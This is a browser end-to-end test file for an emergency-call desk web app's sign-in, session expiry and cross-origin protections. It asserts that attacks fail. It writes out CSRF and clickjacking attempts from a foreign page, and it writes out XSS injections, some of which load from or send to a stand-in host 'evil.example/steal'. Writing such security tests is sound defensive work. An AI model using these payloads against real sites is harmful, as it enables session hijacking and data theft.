// Who gets in, who stays in, and what no other page can do in their name.
import { createServer } from "node:http";
import { once } from "node:events";
import type { AddressInfo } from "node:net";

import { expect, test } from "./fixtures.ts";

const CALL = "pbx-911-0x5eed0002";
const HOUR = 3600;

test("the cookie is out of reach of scripts, of other sites and of other ports", async ({ desk, page, context }) => {
    await desk.signIn();
    const cookies = await context.cookies();
    expect(cookies).toHaveLength(1);
    expect(cookies[0]).toMatchObject({ httpOnly: true, sameSite: "Strict", path: "/", expires: -1 });
    expect(cookies[0]?.name).toBe(`whereabouts-desk-${new URL(desk.url).port}`);
    expect(await page.evaluate(() => [document.cookie, localStorage.length, sessionStorage.length])).toEqual(["", 0, 0]);
});

test("codes that are wrong, used, or of somebody who watches over nobody", async ({ desk, page, backend, expected }) => {
    expected.push(/status of 403/);
    const used = await backend.enrol("desk.one");
    await desk.open();
    const tries = [
        ["nonsense", "This code is not known"],
        ["7QK2-M9XD-4TWA", "This code is not known"],
        [await backend.enrol("maria.chen"), "Your account may not do this"],
    ] as const;
    for (const [code, said] of tries) {
        await page.getByTestId("enrolment-code").fill(code);
        await page.getByTestId("sign-in-submit").click();
        await expect(page.getByTestId("sign-in-error")).toContainText(said);
    }
    await page.getByTestId("enrolment-code").fill(used);
    await page.keyboard.press("Enter");
    await expect(page.getByTestId("coverage")).toBeVisible();
    await page.getByTestId("sign-out").click();
    await page.getByTestId("sign-out-no").click();
    await page.getByTestId("sign-out").click();
    await page.getByTestId("sign-out-yes").click();
    await expect(page.getByTestId("desk-sign-in")).toBeVisible();
    await expect(page.getByTestId("desk-lost")).toBeHidden();
    await page.getByTestId("enrolment-code").fill(used);
    await page.getByTestId("sign-in-submit").click();
    await expect(page.getByTestId("sign-in-error")).toContainText("This code was used before");
    await page.reload();
    await expect(page.getByTestId("desk-sign-in")).toBeVisible();
});

test("a sign-in lasts through a reload and not through a night", async ({ desk, page, backend }) => {
    await desk.signIn();
    await page.reload();
    await expect(page.getByTestId("coverage")).toBeVisible();
    await backend.setClock(15.75 * HOUR);
    await page.reload();
    await expect(page.getByTestId("desk-sign-in")).toBeVisible();
    // In use all the while it lasts its sixteen hours, and is announced before it ends.
    await desk.signIn();
    await backend.setClock(16.25 * HOUR);
    await page.reload();
    await expect(page.getByTestId("coverage")).toBeVisible();
});

test("an open page learns that its sign-in has ended", async ({ desk, page, backend }) => {
    await desk.signIn();
    await backend.setClock(17 * HOUR);
    await expect(page.getByTestId("desk-lost")).toContainText("Your sign-in has ended");
    await page.getByTestId("enrolment-code").fill(await backend.enrol("desk.one"));
    await page.keyboard.press("Enter");
    await expect(page.getByTestId("coverage")).toBeVisible();
});

test("no expiry cuts a page on which an emergency is open", async ({ desk, page, backend, telephony }) => {
    await desk.signIn();
    await backend.setClock(0.9 * HOUR);
    await telephony.dial({ call_id: CALL, agent: "maria.chen", dialled: "911" });
    await expect(desk.call(CALL)).toBeVisible();
    // Longer than a page that nobody uses lasts, shorter than a call may be open.
    await backend.setClock(3 * HOUR);
    await page.reload();
    await expect(desk.call(CALL)).toContainText("is on an emergency call");
});

test("an administrator signs the page out", async ({ desk, page, backend }) => {
    await desk.signIn();
    await backend.signOut("desk.one");
    await backend.setClock(120);
    await expect(page.getByTestId("desk-lost")).toBeVisible();
});

test("two tabs are one sign-in, and a new one in the second keeps the first working", async ({ desk, page, context, backend }) => {
    await desk.signIn();
    const second = await context.newPage();
    await second.goto(desk.url);
    await expect(second.getByTestId("coverage")).toBeVisible();
    await page.getByTestId("sign-out").click();
    await page.getByTestId("sign-out-yes").click();
    await expect(second.getByTestId("desk-lost")).toBeVisible();
    await second.getByTestId("enrolment-code").fill(await backend.enrol("sam.ortiz"));
    await second.keyboard.press("Enter");
    await expect(second.getByTestId("desk-who")).toContainText("Sam Ortiz");
    await page.reload();
    await expect(page.getByTestId("desk-who")).toContainText("Sam Ortiz");
});

test("a foreign page changes nothing and reads nothing, even from the same machine", async ({ desk, page, context, backend, telephony }) => {
    await desk.signIn();
    await telephony.dial({ call_id: CALL, agent: "maria.chen", dialled: "911" });
    // Another port of one host is the same site to a browser: the cookie comes along, and only the
    // origin and the token tell the two apart.
    const foreign = createServer((_, answer) => answer.setHeader("content-type", "text/html").end("<h1>Prize!</h1>"));
    await once(foreign.listen(0, "127.0.0.1"), "listening");
    const port = (foreign.address() as AddressInfo).port;
    const evil = await context.newPage();
    try {
        for (const host of ["127.0.0.1", "localhost"]) {
            await evil.goto(`http://${host}:${port}/`);
            const read = await evil.evaluate(
                async ([url]) => {
                    const ask = (path: string, init: RequestInit) =>
                        fetch(url + path, { credentials: "include", ...init }).then(
                            async (answer) => `${answer.type} ${answer.status} ${await answer.text()}`,
                            () => "refused",
                        );
                    return Promise.all([
                        ask("/desk/session", {}),
                        ask("/v1/roster", {}),
                        ask("/v1/roster", { mode: "no-cors" }),
                        ask("/desk/session", { method: "DELETE" }),
                        ask("/desk/session", { method: "POST", mode: "no-cors", body: '{"code":"7QK2-M9XD-4TWA"}' }),
                        ask("/v1/emergencies/x/acknowledgements", { method: "POST", mode: "no-cors" }),
                    ]);
                },
                [backend.url] as const,
            );
            for (const one of read) expect(one).toMatch(/^(refused|opaque 0 )$/);
            await evil.evaluate(([url]) => {
                const form = document.createElement("form");
                // Sent like this, a form's body is JSON: {"code":"7QK2-M9XD-4TWA="}
                Object.assign(form, { action: `${url}/desk/session`, method: "post", enctype: "text/plain" });
                const field = document.createElement("input");
                Object.assign(field, { name: '{"code":"7QK2-M9XD-4TWA', value: '"}' });
                form.append(field);
                document.body.append(form);
                form.submit();
            }, [backend.url] as const);
            await expect(evil.locator("body")).toContainText("forbidden");
            await evil.goto(`http://${host}:${port}/`);
            await evil.evaluate(([url]) => {
                document.body.append(Object.assign(document.createElement("iframe"), { src: `${url}/desk/` }));
            }, [backend.url] as const);
            const frame = evil.frameLocator("iframe");
            await expect(frame.getByTestId("coverage")).toHaveCount(0);
        }
    } finally {
        foreign.close();
    }
    await page.reload();
    await expect(desk.call(CALL)).toBeVisible();
});

test("a script that got into the page does not run", async ({ desk, page, expected }) => {
    expected.push(/Content Security Policy|Trusted|has been blocked/);
    const seen: string[] = [];
    await desk.signIn();
    await page.exposeFunction("note", (directive: string) => void seen.push(directive));
    const refused = await page.evaluate(async () => {
        const { note } = window as unknown as { note: (directive: string) => void };
        document.addEventListener("securitypolicyviolation", (event) => note(event.effectiveDirective));
        const image = document.createElement("img");
        const script = document.createElement("script");
        const attempts = {
            html: () => (document.createElement("div").innerHTML = "<img src=x onerror='window.stolen = 1'>"),
            attribute: () => image.setAttribute("onerror", "window.stolen = 1"),
            inline: () => (script.textContent = "window.stolen = 1"),
            source: () => (script.src = "https://evil.example/steal.js"),
        };
        const ran = Object.entries(attempts).flatMap(([name, attempt]) => {
            try {
                attempt();
                return [name];
            } catch {
                return [];
            }
        });
        const remote = document.createElement("link");
        Object.assign(remote, { rel: "stylesheet", href: "https://evil.example/steal.css" });
        document.body.append(image, script, remote);
        const sent = await fetch("https://evil.example/steal").then(() => "sent", () => "refused");
        return { ran, sent };
    });
    expect(refused).toEqual({ ran: [], sent: "refused" });
    for (const directive of ["connect-src", "require-trusted-types-for", "style-src"]) {
        await expect.poll(() => seen.join()).toContain(directive);
    }
    expect(await page.evaluate(() => "stolen" in window)).toBe(false);
});
